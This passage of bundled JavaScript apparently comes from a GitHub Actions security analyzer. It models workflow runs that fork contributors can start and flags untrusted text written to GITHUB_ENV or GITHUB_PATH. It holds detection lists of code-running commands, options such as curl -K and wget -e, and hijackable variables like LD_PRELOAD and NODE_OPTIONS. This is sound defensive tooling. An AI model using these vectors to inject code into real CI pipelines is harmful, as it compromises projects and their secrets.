    "pull_request_review",
    "pull_request_review_comment",
]);
/**
 * What is sure about the runs that somebody without write access starts by `event`, from a fork, when an expression is
 * evaluated for them: one for each way in which the names that the owner chose may come out.
 *
 * @param more is known of these runs, by dotted paths in lower case
 * @see Events that trigger workflows, `GITHUB_REF` of each event. A run for a merged pull request belongs to its base branch,
 *   but it is whoever merged it that started it.
 */
function strangersRuns(expression, event, more = new Map()) {
    return namesOfOurs(expression).map((names) => {
        const facts = new Map([...factsOf(names, event), ...more]);
        return { lookup: (path) => facts.get(path.join(".")) ?? expressions/* UNKNOWN */.HV };
    });
}
function factsOf({ repository, defaultBranch }, event) {
    const ours = { repository, id: (0,expressions/* shaped */.e9)(OUR_ID) };
    return new Map([
        ["github.event_name", (0,expressions/* known */.eO)(event)],
        ["github.repository", (0,expressions/* known */.eO)(repository)],
        ["github.repository_id", ours.id],
        ["github.repository_owner", (0,expressions/* known */.eO)(ownerOf(ours))],
        ["github.repository_owner_id", ours.id],
        ...repositoryAt("github.event.repository", ours),
        ["github.event.repository.default_branch", (0,expressions/* known */.eO)(defaultBranch)],
        ["github.ref_type", (0,expressions/* known */.eO)("branch")],
        ...refsOf(event),
        ...payloadOf(event),
        ...headsOf(event, ours),
    ]);
}
/** Where the code of the run comes from, and where it wants to go. */
function headsOf(event, ours) {
    if (event === "workflow_run") {
        return [
            ...forkAt("github.event.workflow_run.head_repository"),
            ...repositoryAt("github.event.workflow_run.repository", ours),
            ["github.event.workflow_run.event", (0,expressions/* shaped */.e9)(EVENT_OF_STRANGERS)],
        ];
    }
    if (!event.startsWith("pull_request"))
        return [];
    const pullRequest = "github.event.pull_request";
    return [
        ...forkAt(`${pullRequest}.head.repo`),
        ...ownerAt(`${pullRequest}.head.user`, STRANGERS_FORK),
        ...repositoryAt(`${pullRequest}.base.repo`, ours),
        ...ownerAt(`${pullRequest}.base.user`, ours),
    ];
}
function forkAt(path) {
    return [[`${path}.fork`, (0,expressions/* known */.eO)(true)], ...repositoryAt(path, STRANGERS_FORK)];
}
function repositoryAt(path, party) {
    return [[`${path}.full_name`, (0,expressions/* known */.eO)(party.repository)], [`${path}.id`, party.id], ...ownerAt(`${path}.owner`, party)];
}
function ownerAt(path, party) {
    return [
        [`${path}.login`, (0,expressions/* known */.eO)(ownerOf(party))],
        [`${path}.id`, party.id],
    ];
}
function ownerOf({ repository }) {
    return repository.split("/")[0];
}
function refsOf(event) {
    const [ref, name] = ON_MERGE_REF.has(event)
        ? [(0,expressions/* textAroundNumber */.cM)("refs/pull/", "/merge"), (0,expressions/* textAroundNumber */.cM)("", "/merge")]
        : [(0,expressions/* textAfter */.eC)("refs/heads/"), (0,expressions/* textAfter */.eC)("")];
    return [
        ["github.ref", (0,expressions/* shaped */.e9)(ref)],
        ["github.ref_name", (0,expressions/* shaped */.e9)(name)],
    ];
}
function payloadOf(event) {
    return Array.from(SET_BY, ([path, events]) => {
        if (!events.includes(event))
            return [path, (0,expressions/* known */.eO)(null)];
        return [path, (0,expressions/* shaped */.e9)(path.startsWith("github.event.") ? expressions/* SOME_OBJECT */.Fw : (0,expressions/* textAfter */.eC)(""))];
    });
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/trust/gates.js


/**
 * Do conditions keep a stranger's run out of a job?
 *
 * The job's `if:` and those of the jobs that it needs are evaluated for a run that somebody without write access starts by
 * `event`, from a fork. What can't be known counts as passable.
 */
function keepsStrangersOut(job, event) {
    return stoppedJobs(job.workflow, event).has(job);
}
const stopped = new WeakMap();
/** By workflow and event: every job asks. */
function stoppedJobs(workflow, event) {
    let ofWorkflow = stopped.get(workflow);
    if (!ofWorkflow) {
        ofWorkflow = new Map();
        stopped.set(workflow, ofWorkflow);
    }
    let jobs = ofWorkflow.get(event);
    if (!jobs) {
        jobs = findStoppedJobs(workflow, event);
        ofWorkflow.set(event, jobs);
    }
    return jobs;
}
function findStoppedJobs(workflow, event) {
    const found = new Set(workflow.jobs.filter((job) => isNeverMet(conditionOf(job), event)));
    const needing = jobsByNeed(workflow);
    // Grows while it is walked: a skipped job skips those that need it, unless their condition asks for its status itself.
    for (const job of found) {
        for (const next of needing.get(job) ?? [])
            if (!asksForStatus(conditionOf(next)))
                found.add(next);
    }
    return found;
}
function jobsByNeed(workflow) {
    const needing = new Map();
    for (const job of workflow.jobs) {
        for (const { value } of job.needs) {
            const needed = workflow.job(value);
            if (!needed)
                continue;
            const known = needing.get(needed);
            if (known)
                known.push(job);
            else
                needing.set(needed, [job]);
        }
    }
    return needing;
}
function conditionOf(job) {
    const scalar = job.condition;
    if (!scalar)
        return undefined;
    const condition = (0,expressions/* parseCondition */.zB)(scalar.value);
    return condition.kind === "expression" ? condition.expression : undefined;
}
function isNeverMet(condition, event) {
    if (condition === undefined)
        return false;
    return strangersRuns(condition, event).every((run) => (0,expressions/* truthiness */.w8)((0,expressions/* evaluate */._3)(condition, run)) === false);
}
const STATUS_FUNCTIONS = new Set(["always", "cancelled", "failure"]);
function asksForStatus(condition) {
    let asks = false;
    if (condition) {
        (0,expressions/* visitExpression */.wM)(condition, (node) => {
            if (node.kind === "call" && STATUS_FUNCTIONS.has(node.name))
                asks = true;
        });
    }
    return asks;
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/trust/starts.js



/** The ways in which strangers start a workflow by an event; conditions of calls that keep them out are seen through. */
function startsBy(event, workflow, repository) {
    const starts = workflow.trigger(event) ? [{ fired: workflow, call: null }] : [];
    for (const call of repository.callersOf(workflow)) {
        const fired = keepsStrangersOut(call, event) ? undefined : firedBy(event, call.workflow, repository);
        if (fired)
            starts.push({ fired, call });
    }
    return starts;
}
/** Says who starts it, as Markdown. */
function describeStart(event, { fired, call }) {
    return call ? `\`${event}\` of \`${fired.path}\`` : `\`${event}\``;
}
/** The workflow itself where the event fires it, or one that the event fires and that calls it, through others maybe. */
function firedBy(event, workflow, repository) {
    const reached = new Set([workflow]);
    for (const one of reached) {
        if (one.trigger(event))
            return one;
        for (const call of repository.callersOf(one)) {
            if (!keepsStrangersOut(call, event))
                reached.add(call.workflow);
        }
    }
    return undefined;
}
/** What a start gives the inputs, by `inputs.<name>` in lower case; what isn't constant is missing. */
function inputsGiven(workflow, { call }) {
    const given = new Map();
    if (!call)
        return given;
    for (const input of workflow.trigger("workflow_call")?.inputs ?? []) {
        const value = constantOf(argumentOf(call, input) ?? input.default);
        if (value)
            given.set(`inputs.${input.name.toLowerCase()}`, value);
    }
    return given;
}
/** Names of inputs have no case. */
function argumentOf(call, { name }) {
    const entry = call.with?.entries.find(({ key }) => key.value.toLowerCase() === name.toLowerCase());
    return entry?.value.kind === "scalar" ? entry.value : undefined;
}
function constantOf(scalar) {
    if (!scalar)
        return undefined;
    if ((0,model/* expressionsIn */.l$)(scalar).length === 0)
        return (0,expressions/* known */.eO)(scalar.typed);
    const whole = (0,model/* wholeExpression */.wY)(scalar)?.expression;
    const result = whole && (0,expressions/* evaluate */._3)(whole, expressions/* NOTHING_KNOWN */.GN);
    return result?.known ? result : undefined;
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/rules/injection/github-env.js








const FILES = ["GITHUB_ENV", "GITHUB_PATH"];
/* harmony default export */ const github_env = (defineRule({
    id: "github-env",
    category: "injection",
    severity: "high",
    isZizmor: true,
    summary: "Something that isn't fixed is written to GITHUB_ENV or GITHUB_PATH where strangers can start the run",
    risk: "A line of the attacker's in that file sets any variable of the steps that follow (`LD_PRELOAD`, `NODE_OPTIONS`, `PATH`), and so runs code in them.",
    mend: "Hand values on as step outputs (`GITHUB_OUTPUT`) and read them where they are needed; write only fixed text to `GITHUB_ENV` and `GITHUB_PATH`.",
    sources: [
        "https://docs.github.com/actions/reference/workflows-and-actions/workflow-commands#setting-an-environment-variable",
    ],
    examples: { flagged: [], silent: [] },
    run(run, report) {
        judge(run.scalar, run.shell, run.step, report);
    },
    uses({ uses, step }, report) {
        if (!step || uses.target.kind !== "repository" || !step.with)
            return;
        const name = (0,model/* nameOf */.Vb)(uses.target);
        for (const input of codeInputsOf(name)) {
            const value = step.input(input)?.value;
            if (value?.kind === "scalar")
                judge(value, languageOf(name), step, report);
        }
    },
}));
function judge(scalar, shell, step, report) {
    // The look at the text is cheaper than to find out who starts it, and to parse the script.
    if (!(0,lib_shell/* mayWriteEnvironmentFiles */.bN)(scalar.value, FILES))
        return;
    const who = whoStarts(step, report.repository);
    if (who === null)
        return;
    for (const write of (0,lib_shell/* environmentFileWrites */.Uh)(scriptOf(scalar, shell, step), FILES)) {
        if (write.content === "static" || isFixedByEnv(write, step))
            continue;
        const span = scalar.spanOf(write.span.start, write.span.end);
        const message = `Text that isn't fixed is written to \`${write.file}\`, and ${who}`;
        report({ file: scalar.file, ...span }, message, {
            confidence: step.owner.kind === "composite" ? "low" : "medium",
        });
    }
}
/** Null where only people with write access can start the run. */
function whoStarts({ owner }, repository) {
    if (owner.kind === "composite")
        return "a workflow that strangers can start may call this action";
    const start = privilegedStart(owner.workflow, repository);
    return start === undefined ? null : `strangers can start this run by ${start}`;
}
/** The first event by which strangers start it with secrets, as Markdown; its own before those of its callers. */
function privilegedStart(workflow, repository) {
    const triggers = [workflow, ...repository.workflows].flatMap((one) => one.triggers);
    for (const event of new Set(triggers.map((trigger) => trigger.event))) {
        const [start] = isPrivileged(event) ? startsBy(event, workflow, repository) : [];
        if (start)
            return describeStart(event, start);
    }
    return undefined;
}
/** The script, with expressions that nobody else fills read as plain text of their length. */
function scriptOf(scalar, shell, step) {
    const all = (0,model/* expressionsIn */.l$)(scalar);
    const open = all.filter((embedded) => namesFile(embedded) || !isHarmless(embedded, step));
    if (open.length === all.length && step.run?.scalar === scalar)
        return step.run.script;
    const kept = new Set(open);
    let text = "";
    let at = 0;
    for (const embedded of all) {
        if (kept.has(embedded))
            continue;
        text += scalar.value.slice(at, embedded.start) + "x".repeat(embedded.end - embedded.start);
        at = embedded.end;
    }
    return (0,lib_shell/* parseScript */.tl)(text + scalar.value.slice(at), shell, open);
}
/** `${{ github.env }}` is the file itself. */
function namesFile({ expression }) {
    const path = expression && (0,expressions/* contextPath */.VJ)(expression);
    return path?.segments[0] === "github" && (path.segments[1] === "env" || path.segments[1] === "path");
}
function isHarmless({ expression }, step) {
    return expression !== undefined && rateExpression(expression, step).persona !== "regular";
}
/** All that isn't fixed in the script itself are variables that an `env:` block gives fixed text. */
function isFixedByEnv({ command }, step) {
    const parts = command?.args.flatMap((word) => word.parts) ?? [];
    const variables = parts.filter((part) => part.kind === "variable" && part.operator === undefined);
    const isOnlyVariables = parts.every((part) => part.kind === "literal" || part.kind === "variable");
    if (variables.length === 0 || !isOnlyVariables || !["echo", "printf"].includes(command?.name?.literal ?? ""))
        return false;
    return parts.every((part) => part.kind !== "variable" || isFixed(step.variable(part.name)?.value, step));
}
function isFixed(value, step) {
    return value != null && (0,model/* expressionsIn */.l$)(value).every((embedded) => isHarmless(embedded, step));
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/fixes/shared-text.js
const targetsByFile = new WeakMap();
/**
 * Do anchors give a text of a step to another place of the file, too, so that an edit changes more than the step?
 * A step that is repeated as a whole shares nothing: each copy has all of the edit.
 */
function isSharedText(scalar, step, root) {
    if (!contains(step, scalar))
        return true;
    return aliasTargets(root).some((target) => target !== step && contains(step, target) && contains(target, scalar));
}
function contains(outer, inner) {
    return outer.start <= inner.start && inner.end <= outer.end;
}
function aliasTargets(root) {
    let targets = targetsByFile.get(root.file);
    if (!targets) {
        targets = [...new Set(targetsIn(root))];
        targetsByFile.set(root.file, targets);
    }
    return targets;
}
/** What an alias stands for is gone through where its anchor is. */
function* targetsIn(node) {
    if (node.kind === "scalar")
        return;
    for (const { value, alias } of node.kind === "map" ? node.entries : node.items) {
        if (alias)
            yield value;
        else
            yield* targetsIn(value);
    }
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/fixes/run-arguments.js
/** Long options whose value is run, whatever the command; a program takes their beginnings for them, too. */
const LONG_OPTIONS = words("checkpoint-action command compress-program eval exec exec-batch exec-path extcmd info-script new-volume-script " +
    "open-files-in-pager receive-pack rmt-command rsh rsh-command rsync-path to-command unzip-command upload-pack " +
    "use-askpass use-compress-program");
/** Options of one program, or of one of its commands, whose value is run or holds settings that are. */
const OWN_OPTIONS = new Map([
    ["curl", ["-K", "--config"]],
    ["gh", ["-q", "--jq"]],
    ["git clone", ["-u", "-c", "--config"]],
    ["git difftool", ["-x"]],
    ["git grep", ["-O"]],
    ["git rebase", ["-x"]],
    ["rsync", ["-e"]],
    ["scp", ["-o", "-S"]],
    ["sftp", ["-o", "-S"]],
    ["split", ["--filter"]],
    ["tar", ["-I", "-F"]],
    ["wget", ["-e", "--execute"]],
]);
/** Commands of git and gh that run their arguments, or keep them to be run. */
const RUN_ARGUMENTS = new Set(["gh alias", "git bisect", "git filter-branch", "git submodule"]);
/** Settings of git that name a program. */
const GIT_PROGRAM = /^(?:alias|pager|credential|filter|include(?:if)?)\.|^core\.(?:askpass|editor|fsmonitor|gitproxy|hookspath|pager|sshcommand)$|^sequence\.editor$|\.(?:clean|cmd|command|driver|external|helper|process|program|receivepack|smudge|textconv|uploadpack|vcs)$/i;
/** Does a command run, as a program, the argument at an offset or a part of it? */
function runsArgument({ name, args }, offset) {
    const at = args.findIndex(({ start, end }) => start <= offset && offset < end);
    const program = name?.literal?.split("/").at(-1)?.toLowerCase();
    if (at === -1 || program === undefined)
        return false;
    if (isOptionsValue(args, at, LONG_OPTIONS))
        return true;
    const commands = [program, ...args.slice(0, at).map(({ literal }) => `${program} ${literal}`)];
    if (commands.some((command) => RUN_ARGUMENTS.has(command)))
        return true;
    if (commands.some((command) => isOptionsValue(args, at, OWN_OPTIONS.get(command) ?? [])))
        return true;
    if (program === "git")
        return commands.includes("git config") && setsProgram(args.slice(0, at + 1));
    return JQ.has(program) && at === filterOfJq(args);
}
function words(names) {
    return names.split(" ").map((name) => `--${name}`);
}
/** `--option=value`, `--option value`, `-ovalue`, `-o value`. */
function isOptionsValue(args, at, options) {
    const own = unquoted(args[at]);
    const before = unquoted(args[at - 1]);
    return options.some((option) => {
        if (!option.startsWith("--"))
            return own.startsWith(option) || before === option;
        const written = /^(--[\w-]{2,})=/.exec(own)?.[1] ?? before;
        return written.length > 3 && option.startsWith(written);
    });
}
function unquoted(word) {
    return word?.literal ?? word?.text.replace(/["'\\]/g, "") ?? "";
}
/** A key that isn't known may be any. */
function setsProgram(args) {
    const key = args.find((word) => unquoted(word).includes("."));
    return key === undefined || key.literal === undefined || GIT_PROGRAM.test(key.literal);
}
const JQ = new Set(["gojq", "jaq", "jq"]);
/** How many words follow an option of jq. @see jq(1), "INVOKING JQ" */
const JQ_OPTIONS = new Map([
    ["--arg", 2],
    ["--argjson", 2],
    ["--argfile", 2],
    ["--slurpfile", 2],
    ["--rawfile", 2],
    ["--indent", 1],
    ["-L", 1],
]);
/** Index of the filter among the arguments of jq: the first that is neither an option nor an option's value. */
function filterOfJq(args) {
    for (let at = 0; at < args.length; at++) {
        const text = unquoted(args[at]);
        if (!text.startsWith("-"))
            return at;
        at += JQ_OPTIONS.get(text) ?? 0;
    }
    return -1;
}
const PROGRAM_VARIABLE = /^(?:BASH_ENV|BROWSER|EDITOR|ENV|GH_(?:BROWSER|EDITOR|PAGER)|GIT_(?:ASKPASS|CONFIG\w*|EDITOR|EXEC_PATH|EXTERNAL_DIFF|PAGER|PROXY_COMMAND|SEQUENCE_EDITOR|SSH\w*)|IFS|JAVA_TOOL_OPTIONS|LD_\w+|LESSOPEN|MAKEFLAGS|NODE_OPTIONS|PAGER|PATH|PERL5OPT|PROMPT_COMMAND|PS4|PYTHON\w+|RSYNC_RSH|RUSTC_WRAPPER|S(?:SH|UDO)_ASKPASS|TAR_OPTIONS|VISUAL)$/;
/** Do shells or other programs run what stands in the variable? */
function isProgramVariable(name) {
    return PROGRAM_VARIABLE.test(name);
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/fixes/text-fate.js


/** Programs whose arguments, or some of them, are code. */
const CODE_COMMANDS = new Set((". ash awk bash busybox cmd csh dash declare doas docker env eval ex fish flock gawk iex invoke-expression irb ksh let lua mawk nawk " +
    "nerdctl node nodejs nsenter osascript parallel perl php podman powershell pwsh rscript ruby rush script sed setsid sh source ssh su " +
    "tclsh tcsh trap typeset watch xonsh zsh kubectl oc invoke-command start-process add-type new-module").split(" "));
const VERSIONED = /^(?:python|pypy|ruby|perl|lua|php|node)[\d.]*$/;
/** Programs that take words as they are. */
const DATA_COMMANDS = new Set(("[ [[ basename cat cd cmp cp curl date dirname echo exit export false gh git grep head jq local ls mkdir mv printf pwd readonly realpath " +
    "return rm sha256sum sleep tail tee test touch tr true wc write-error write-host write-output write-verbose write-warning").split(" "));
/** Tests that read their operands as arithmetic, or as names of variables (bash, "Conditional Expressions"). */
const ARITHMETIC_TEST = /^-(?:eq|ne|lt|le|gt|ge|v|R)$/;
/** Operators of `${X…}` whose operand is text; in the others it is a pattern, a number or a name. */
const TEXT_OPERATORS = new Set([":-", "-", ":=", "=", ":+", "+", ":?", "?"]);
/** Words by which a script may run what it kept in a variable. Most scripts have none. */
const RUNS_TEXT = /\b(?:awk|bash|coproc|declare|docker|eval|exec|find|flock|gawk|iex|invoke-expression|kubectl|let|lua|node|parallel|perl|php|podman|powershell|pwsh|python[\d.]*|ruby|script|sed|sh|source|ssh|su|trap|typeset|watch|xargs|zsh)\b|@P\}|(?:^|[\s;&|(])\.\s|\$\(\(|\(\(|\blocal\s+-\w*i/im;
/** A command that runs its arguments, one of them a variable. */
const RUNS_ARGUMENTS = /\b(?:builtin|chroot|command|doas|env|ionice|nice|nohup|setsid|stdbuf|sudo|time|timeout|unshare)\b(?:[^\\\n]|\\[\s\S]){0,1000}?(?:\$(?!\{\{)|`)/i;
/** Bash reads a number, a subscript or a name there, and runs the substitutions that a variable brings along. */
const EVALUATES_VARIABLE = /\[\[[^\n]{0,300}?\s-(?:eq|ne|lt|le|gt|ge)\s|(?:\[|\btest)[^\n]{0,100}?\s["']?-[vR]["']?\s|\$\{!|\bprintf\s+-v\b|\b(?:local|read|unset)\b[^\n;=<]{0,200}\$(?!\{\{)|\w\[[^\]\n]{0,100}\$|\w\[[A-Za-z_]\w*\](?:\}|\+?=)|\$\{\w+:(?![-+=?])[^}\n]{0,100}[A-Za-z_$]/;
/** A variable, or what a substitution prints, where a command's name is expected. */
const RUNS_VARIABLE = /(?:^|[;&|({!`]|\b(?:do|elif|else|if|then|until|while)\s)[ \t]*["']?(?:\$[\w{@*(]|`)|(?:^|[;&|({])[ \t]*[&.][ \t]*["']?\$/m;
/**
 * Words by which a script may keep, or hand on, what a line prints: functions, `exec >file`, `alias`, a compound command
 * with a redirect or a pipe behind it, and a `$(`, `{` or `(` that gives a value and ends on a later line. Nothing is read
 * twice from different beginnings, so time grows with the length only.
 */
const GATHERS_OUTPUT = [
    /\bfunction\b|\w\s*\(\)|\b(?:exec|alias|coproc)\b/,
    /(?:\}|\bdone|\bfi|\besac|\))\s*(?:\d?>|&>|\|(?!\|))/,
    /[<>$]\((?:[^)\n<>$]|[<>$](?!\())*$/m,
    /^[^\n=]*=[^\n]*[({][ \t\r]*$/m,
    /`[^`\n]*$/m,
];
/** What becomes of the text at `offset` of a bash, sh or PowerShell script. */
function fateOf(script, offset) {
    const traits = traitsOf(script);
    if (isPlainLine(script, offset, traits))
        return "data";
    let fate = losesOutput(script, traits) ? "unknown" : "data";
    for (const command of script.commands) {
        const own = fateIn(command, offset, traits);
        if (own === "code")
            return "code";
        if (own === "unknown")
            fate = "unknown";
    }
    return fate;
}
/** May what a line prints end where nobody can follow it? */
function losesOutput(script, { gathersOutput }) {
    if (!gathersOutput)
        return false;
    if (/\bcoproc\b/.test(script.text))
        return true;
    return (!script.knowsPlaces || script.commands.some((command) => command.name?.literal === "exec" && writesFile(command)));
}
const traitsByScript = new WeakMap();
function traitsOf(script) {
    let found = traitsByScript.get(script);
    if (!found) {
        found = {
            runsVariables: [RUNS_TEXT, RUNS_ARGUMENTS, RUNS_VARIABLE, EVALUATES_VARIABLE].some((words) => words.test(script.text)),
            gathersOutput: GATHERS_OUTPUT.some((words) => words.test(script.text)),
        };
        traitsByScript.set(script, found);
    }
    return found;
}
const PLAIN_LINE = /^\s*(?:(?:if|elif|while)\s+)?(?:!\s+)?(?:echo|\[\[?|test|[A-Za-z_]\w*=["']?\S*$|export\s+\w+=)(?:\s|$)?[^|<>`;&()]*$/;
/** What only the parser understands: tests of numbers and of variables, `${X:${{ … }}}`, `$[…]`, an array, a line that goes on. */
const NEEDS_PARSER = /[\s"'\\]-["']?(?:eq|ne|lt|le|gt|ge|v|R)(?!\w)|\$\{(?!\{)[^\n]*\$\{\{|\$\[|=\(|\\$/;
const PRINTS = /\becho\b/;
/** Behind `echo`: what the runner reads there are values. */
const TO_RUNNERS_FILE = /\s>>\s*"?\$\{?GITHUB_(?:OUTPUT|ENV|STEP_SUMMARY)\}?"?\s*$/;
const ASSIGNMENT = /^\s*(?:export\s+)?([A-Za-z_]\w*)=/;
/** `echo …`, `[ … ]`, `X=…` on a line of its own: that needs no parser to be seen as harmless. */
function isPlainLine(script, offset, { runsVariables, gathersOutput }) {
    const { text } = script;
    const from = text.lastIndexOf("\n", offset - 1) + 1;
    const lineFeed = text.indexOf("\n", offset);
    const line = text.slice(from, lineFeed === -1 ? text.length : lineFeed);
    if (line.length > 400 || text[from - 2] === "\\" || NEEDS_PARSER.test(line))
        return false;
    const assigned = ASSIGNMENT.exec(line)?.[1];
    if (assigned !== undefined && (runsVariables || isProgramVariable(assigned)))
        return false;
    if (gathersOutput && PRINTS.test(line))
        return false;
    if (!PLAIN_LINE.test(text.slice(from, offset)) || /[|<>`]|\$\(/.test(line.replace(TO_RUNNERS_FILE, "")))
        return false;
    return script.quotingAt(from) === "none";
}
function fateIn(command, offset, { runsVariables }) {
    const place = placeIn(command, offset);
    if (place === null)
        return "data";
    if (place === "name" || command.place.nestedIn || isInOddExpansion(command, offset))
        return "code";
    const names = namesOf(command);
    if (names.some(takesCode) || mentionsInterpreter(command) || hasOddOperands(command, names))
        return "code";
    if (runsArgument((0,lib_shell/* effectiveCommand */.l1)(command), offset))
        return "code";
    const readers = readersOf(command);
    if (readers.some((reader) => hasOpenName(reader) || namesOf(reader).some(takesCode)))
        return "code";
    if (isDeclaredName(command, names, offset))
        return names.includes("local") ? "code" : "unknown";
    if (place === "assignment" || names.some((name) => DECLARE.has(name))) {
        return !runsVariables && !text_fate_setsProgram(command) && command.assignments.every(hasPlainName) ? "data" : "unknown";
    }
    // Whoever calls a function may do anything with what it prints.
    if (command.place.inFunction !== undefined || isWrittenToFile(command) || hasOpenName(command))
        return "unknown";
    return [...names, ...readers.flatMap(namesOf)].every((name) => DATA_COMMANDS.has(name)) ? "data" : "unknown";
}
/** Their arguments are assignments. */
const DECLARE = new Set(["export", "local", "readonly"]);
/** `local "${{ … }}=1"`: bash reads a subscript in it as arithmetic; `export` takes plain names only. */
function isDeclaredName({ args }, names, offset) {
    const word = args.find((candidate) => holds(candidate, offset));
    return (word !== undefined &&
        names.some((name) => DECLARE.has(name)) &&
        !word.text.slice(0, offset - word.start).includes("="));
}
/** `$RUN …`: nobody knows which program that is. */
function hasOpenName({ name }) {
    return name !== undefined && name.literal === undefined;
}
/** `GIT_SSH_COMMAND=…`, `export PAGER=…` */
function text_fate_setsProgram({ assignments, args }) {
    const names = [...assignments.map(({ name }) => name), ...args.map(({ text }) => text.split("=", 1)[0])];
    return names.some(isProgramVariable);
}
function hasPlainName({ name }) {
    return /^[A-Za-z_:]\w*$/.test(name.replace(/^env:/i, ""));
}
function placeIn(command, offset) {
    if (command.name && holds(command.name, offset))
        return "name";
    if (command.args.some((word) => holds(word, offset)))
        return "argument";
    for (const { target, heredoc } of command.redirects) {
        if ((target && holds(target, offset)) || (heredoc && holds(heredoc.body, offset)))
            return "argument";
    }
    const assignment = command.assignments.find((candidate) => holds(candidate, offset));
    if (!assignment)
        return null;
    // `a[…]=1` reads the subscript as arithmetic, and `a=([…]=1)` does.
    return assignment.values.some((word) => holds(word, offset) && !word.text.startsWith("[")) ? "assignment" : "name";
}
function holds({ start, end }, offset) {
    return start <= offset && offset < end;
}
/** The command, what it wraps (`sudo bash -c …`), and what stands in between; without folders, in lower case. */
function namesOf(command) {
    const effective = (0,lib_shell/* effectiveCommand */.l1)(command);
    const names = [command.name?.literal, effective?.name?.literal, ...(effective?.wrappers ?? [])];
    return names.flatMap((name) => (name === undefined ? [] : [name.split(/[\\/]/).at(-1)?.toLowerCase() ?? ""]));
}
function takesCode(name) {
    return CODE_COMMANDS.has(name) || VERSIONED.test(name);
}
/** `find … -exec sh -c`, `git -c alias.x=!…`, `script -c`, `xargs bash`: a word among the arguments that starts another program. */
function mentionsInterpreter({ args }) {
    return args.some(({ literal }) => {
        if (literal === undefined)
            return false;
        return /^-(?:exec|execdir|ok|okdir|c|-command)$/.test(literal) || /^(?:ba|da|k|z)?sh$/.test(literal);
    });
}
function hasOddOperands({ args }, names) {
    if (names.includes("(("))
        return true;
    if (names.includes("printf"))
        return args[0]?.literal === "-v";
    if (names.includes("local") || names.includes("export"))
        return args.some(({ literal }) => /^-\w*i/.test(literal ?? ""));
    const isTest = names.some((name) => name === "[" || name === "[[" || name === "test");
    return isTest && args.some(({ literal }) => literal !== undefined && ARITHMETIC_TEST.test(literal));
}
/** The command and the compound commands around it, innermost first: what goes for their output goes for its own. */
function* around(command) {
    yield command;
    for (let group = command.place.group; group; group = group.place.group)
        yield group;
}
/** The commands that read what the command prints. */
function readersOf(command) {
    return [...around(command)].flatMap(stagesBehind).flatMap(commandsOf);
}
function stagesBehind({ pipeline }) {
    return pipeline?.stages.slice(pipeline.index + 1) ?? [];
}
function commandsOf(stage) {
    return stage.kind === "command" ? [stage] : stage.commands;
}
/** Does what the command prints end in a file? One other than the runner's own may be run later. */
function isWrittenToFile(command) {
    const stages = [...around(command)].flatMap((stage) => [stage, ...stagesBehind(stage)]);
    const commands = [command, ...readersOf(command)];
    return stages.some(writesFile) || commands.some((reader) => writesFile(reader) || isTeeToFile(reader));
}
const RUNNERS_OWN = /GITHUB_|\/dev\/|^&?\d$/;
function writesFile({ redirects }) {
    return redirects.some(({ operator, target }) => /^[&]?>/.test(operator) && !RUNNERS_OWN.test(target?.text ?? ""));
}
function isTeeToFile(command) {
    const isTee = namesOf(command).some((name) => name === "tee" || name === "tee-object" || name === "out-file");
    return isTee && command.args.some(({ text }) => !text.startsWith("-") && !RUNNERS_OWN.test(text));
}
/** Inside `${X…}`, but for the text of `${X:-text}`. */
function isInOddExpansion({ args, assignments, redirects }, offset) {
    const written = redirects.flatMap(({ target, heredoc }) => [target, heredoc?.content]);
    const words = [...args, ...assignments.flatMap(({ values }) => values), ...written].filter((word) => word !== undefined);
    return words.some((word) => holds(word, offset) && word.parts.some((part) => isOddAround(part, offset)));
}
function isOddAround(part, offset) {
    if (!holds(part, offset))
        return false;
    if (part.kind === "arithmetic")
        return true;
    return part.kind === "variable" && isOddVariable(part, offset);
}
function isOddVariable({ operator, operand }, offset) {
    return !TEXT_OPERATORS.has(operator ?? "") || operand.some((part) => isOddAround(part, offset));
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/fixes/word-count.js



/**
 * Names of branches and tags: git takes no space and no character of a pattern into them.
 *
 * True where the name is there whenever its object is; a deleted fork has no repository, and some runs have no branch.
 *
 * @see git-check-ref-format(1); the webhook payloads of the events that trigger workflows
 */
const REF_NAMES = new Map([
    ["github.base_ref", true],
    ["github.head_ref", true],
    ["github.ref", true],
    ["github.ref_name", true],
    ["github.event.merge_group.base_ref", true],
    ["github.event.merge_group.head_ref", true],
    ["github.event.pull_request.base.label", true],
    ["github.event.pull_request.base.ref", true],
    ["github.event.pull_request.head.label", true],
    ["github.event.pull_request.head.ref", true],
    ["github.event.pull_request.head.repo.default_branch", false],
    ["github.event.ref", false],
    ["github.event.release.tag_name", false],
    ["github.event.repository.default_branch", false],
    ["github.event.workflow_run.head_branch", false],
]);
/** `a || b` is as sure as the surer of the two; of other functions and operators nothing is sure. */
function wordCount(expression, step) {
    if (expression.kind === "literal")
        return countOfLiteral(expression.value);
    if (expression.kind === "logical" && expression.operator === "||") {
        const counts = [wordCount(expression.left, step), wordCount(expression.right, step)];
        return counts.includes("any") ? "any" : counts.includes("one") ? "one" : "one or none";
    }
    const path = (0,expressions/* contextPath */.VJ)(expression);
    return path?.exact ? countOfContext(path.segments, step) : "any";
}
function countOfLiteral(value) {
    const text = String(value ?? "");
    if (text === "")
        return "one or none";
    return /^[\w./:@%+=-]+$/.test(text) ? "one" : "any";
}
function countOfContext(segments, step) {
    const path = segments.join(".");
    const isThere = REF_NAMES.get(path);
    if (isThere === undefined)
        return isOneWord(segments) ? "one or none" : "any";
    return isThere && isAlwaysSet(path, step) ? "one" : "one or none";
}
/** Numbers, hashes, logins and addresses hold no spaces. */
function isOneWord(segments) {
    const capability = rateGithubContext(segments);
    return capability === "fixed" || capability === "structured";
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/fixes/hand-over.js







/** Scripts with more are generated, or made to be slow. */
const MOST_EXPRESSIONS = 200;
/**
 * A fix that hands an expression's value over in `env:` and reads the variable where the expression stood, so that the
 * script never holds the text. Null where no reference would mean the same: in cmd, which pastes variables before it
 * reads them, in text that is read as code once more, where another shell may read the script, and where the place can't
 * be understood.
 */
function handOverThroughEnv(embedded, shell, step) {
    const { scalar, expression } = embedded;
    if (!expression || !embedded.isTerminated || (0,model/* expressionsIn */.l$)(scalar).length > MOST_EXPRESSIONS)
        return null;
    if (step.run && step.shell.from === "mixed")
        return null;
    const script = step.run?.scalar === scalar
